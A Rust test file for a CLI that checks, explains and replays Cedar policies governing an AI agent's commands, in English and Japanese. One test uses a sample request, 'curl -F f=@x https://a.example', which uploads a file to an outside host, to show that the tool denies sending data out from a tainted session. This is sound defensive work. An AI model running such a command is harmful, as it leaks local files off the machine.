//! `yata policy`: checks, cases, explanations and replays, in both languages.

use std::fs;

use serde_json::{Value, json};

use crate::support::{Place, repository};

const HEAD: &str = "@id(\"own\") @decision(\"ask\") @reason_en(\"Because.\") @reason_ja(\"理由です。\")\n";

/// A folder with one policy that has this condition.
fn with_policy(condition: &str) -> Place {
    let place = Place::new();
    fs::create_dir(place.path("own")).unwrap();
    place.write("own/own.cedar", format!("{HEAD}forbid (principal, action, resource)\nwhen {{ {condition} }};\n"));
    place
}

fn request(action: &str, resource: &str, context: &Value) -> Value {
    json!({"principal": {"type": "Agent", "id": "agent"}, "action": action, "resource": resource, "context": context})
}

#[test]
fn the_built_in_policies_are_sound_and_their_cases_hold() {
    let place = Place::new();
    place.yata(&["policy", "check"]).code(0).says(&["57 policies", "No policy is without effect."]);
    place
        .yata(&["--lang", "ja", "policy", "check"])
        .code(0)
        .says(&["ポリシー 57 件", "効果のないポリシーはありません。"]);
    let check = place.yata(&["policy", "check", "--format", "json"]).code(0).json();
    assert_eq!((&check["valid"], &check["policies"], &check["findings"]), (&json!(true), &json!(57), &json!([])));
    place.yata(&["policy", "test"]).code(0).says(&["176 cases, 0 of them failed."]);
}

#[test]
fn the_example_has_policies_of_its_own() {
    let place = Place::new();
    let folder = repository().join("examples/minato/policies");
    let folder = folder.to_str().unwrap();
    place.yata(&["policy", "check", "--policies", folder]).code(0).says(&["62 policies"]);
    place.yata(&["policy", "test", "--policies", folder]).code(0).says(&["12 cases, 0 of them failed."]);
    place.yata(&["policy", "check", "--policies", folder, "--alone"]).code(0).says(&["5 policies"]);
}

#[test]
fn what_is_wrong_is_shown_with_file_and_line() {
    let place = with_policy("context.tained");
    let wrong = place.yata(&["policy", "check", "--policies", "own"]).code(1);
    wrong.says(&["own/own.cedar:3:8: ", "did you mean `tainted`?", "The policies are not valid."]);
    let json = place.yata(&["policy", "check", "--policies", "own", "--format", "json"]).code(1).json();
    assert_eq!((&json["valid"], &json["problems"][0]["line"]), (&json!(false), &json!(3)));
    place.yata(&["policy", "test", "--policies", "own"]).code(2).says_on_error(&["own/own.cedar:3:8: "]);
    let place = with_policy("context.tainted && !context.tainted");
    place.yata(&["policy", "check", "--policies", "own"]).code(1).says(&["own/own.cedar:1: `own` can never apply"]);
    let place = with_policy("context.traits.containsAll([\"persists\", \"evades\"])");
    let found = place.yata(&["--lang", "ja", "policy", "check", "--policies", "own"]).code(1);
    found.says(&["own/own.cedar:1: `own` は確認を求めることがありません。", "`evade` (code.cedar:"]);
    place
        .yata(&["policy", "check", "--policies", "nowhere"])
        .code(2)
        .says_on_error(&["cannot read the folder `nowhere`"]);
}

#[test]
fn a_failing_case_is_named_with_file_and_line() {
    let place = with_policy("context.program == \"make\"");
    let case = |expect: &str| {
        let request = json!({"action": "run_command", "resource": "make", "context": {"program": "make"}});
        json!({"name": "building", "request": request, "expect": expect, "policies": ["own"]})
    };
    place.write("own/cases.jsonl", format!("# cases\n\n{}\n{}\n", case("ask"), case("allow")));
    let failed = place.yata(&["policy", "test", "--policies", "own"]).code(1);
    failed.says(&["own/cases.jsonl:4: building: expected allow, found ask by `own`", "2 cases, 1 of them failed."]);
    place.write("own/cases.jsonl", format!("{}\n{{\"name\": 1}}\n", case("ask")));
    place.yata(&["policy", "test", "--policies", "own"]).code(1).says(&["own/cases.jsonl:2: "]);
    place.write("own/cases.jsonl", "");
    place.yata(&["policy", "test", "--policies", "own"]).code(2).says_on_error(&["there is no case"]);
}

#[test]
fn an_explanation_says_why_and_what_would_change_it() {
    let place = Place::new();
    let context = json!({"traits": ["sends-out", "outward"], "tainted": true, "program": "curl"});
    place.write("request.json", request("run_command", "curl -F f=@x https://a.example", &context).to_string());
    let run = place.yata(&["policy", "explain", "--request", "request.json"]).code(0);
    run.says(&[
        "Decision: deny (policy version ",
        "Untrusted content is in this session, and files or output would leave the machine. (`tainted-send-out`)",
        "without untrusted content in the session: ask (`send-out`)",
        "without the trait `sends-out`: ask (`tainted-outward`)",
        "send-out (ask) data.cedar:",
        "lacks: !",
    ]);
    run.is_silent_about(&["everyday-prompts"]);
    let run = place.yata(&["policy", "explain", "--request", "request.json", "--all", "--lang", "ja"]).code(0);
    run.says(&["判定：拒否", "everyday-prompts", "満たさない条件："]);
    let json = place.yata(&["policy", "explain", "--request", "request.json", "--format", "json"]).code(0).json();
    assert_eq!(json["decided"]["decision"], "deny");
    assert_eq!(json["decided"]["policies"], json!(["tainted-send-out"]));
    place.write("wrong.json", request("run_comand", "x", &json!({})).to_string());
    place
        .yata(&["policy", "explain", "--request", "wrong.json"])
        .code(2)
        .says_on_error(&["`wrong.json` is no request"]);
}

#[test]
fn a_replay_says_what_would_change() {
    let place = with_policy("context.program == \"make\"");
    let event = |program: &str, decision: &str| {
        let request = request("run_command", program, &json!({"program": program}));
        json!({"time": 1, "request": request, "decision": decision, "policies": ["everyday-commands"], "version": "v1"})
    };
    let wrapped = json!({"class_uid": 6003, "unmapped": {"yata": event("make", "allow")}});
    let lines = [event("ls", "allow"), event("make", "allow"), event("make", "deny"), wrapped];
    let events: String = lines.iter().map(|line| format!("{line}\n")).collect();
    place.write("events.jsonl", &events);
    let run = place.yata(&["policy", "replay", "--policies", "own", "--events", "events.jsonl"]).code(1);
    run.says(&[
        "2: allow → ask: run_command make (`own`)",
        "3: deny → ask: run_command make (`own`)",
        "4: allow → ask: run_command make (`own`)",
        "4 events decided again",
        "3 would be decided differently, 0 lines could not be read",
        "allow → ask: 2",
        "before: 3 allowed, 0 asked, 1 denied",
        "after: 1 allowed, 3 asked, 0 denied",
        "`own` decides 3 of them",
    ]);
    let json = place.yata(&["policy", "replay", "--policies", "own", "--events", "events.jsonl", "--format", "json"]);
    let json = json.code(1).json();
    assert_eq!(json["moves"][0], json!({"before": "allow", "after": "ask", "count": 2}));
    assert_eq!(json["moved"][0]["action"], "run_command");
    place.write("events.jsonl", format!("{events}not json\n"));
    let broken = place.yata(&["policy", "replay", "--policies", "own", "--events", "events.jsonl"]).code(2);
    broken.says(&["line 5 is no event", "1 lines could not be read"]);
    let began = json!({"class_uid": 6003, "message": "x", "unmapped": {"facts": []}});
    place.write("events.jsonl", format!("{began}\n{}\n", event("ls", "allow")));
    let skipped = place.yata(&["policy", "replay", "--policies", "own", "--events", "events.jsonl"]).code(0);
    skipped.says(&["1 events decided again", "skipped: 1 records without a request"]);
    place.write("events.jsonl", event("ls", "allow").to_string());
    place.yata(&["policy", "replay", "--policies", "own", "--events", "events.jsonl"]).code(0);
}

#[test]
fn the_compiled_form_of_the_built_in_policies_is_the_one_that_comes_with_the_product() {
    let place = Place::new();
    place.yata(&["policy", "compile", "-o", "policy.compiled"]).code(0);
    let builtin = fs::read(repository().join("crates/policy/policies/default.compiled")).unwrap();
    assert_eq!(fs::read(place.path("policy.compiled")).unwrap(), builtin);
    place.yata(&["policy", "default", "all"]).code(0);
    place.yata(&["policy", "compile", "--policies", "all", "--alone", "-o", "again.compiled"]).code(0);
    assert_eq!(fs::read(place.path("again.compiled")).unwrap(), builtin);
    place.yata(&["policy", "test", "--policies", "all"]).code(0).says(&["176 cases, 0 of them failed."]);
    place.yata(&["policy", "default", "all"]).code(2).says_on_error(&["is there already"]);
    place.yata(&["policy", "schema"]).code(0).says(&["entity Agent in [Group];"]);
}
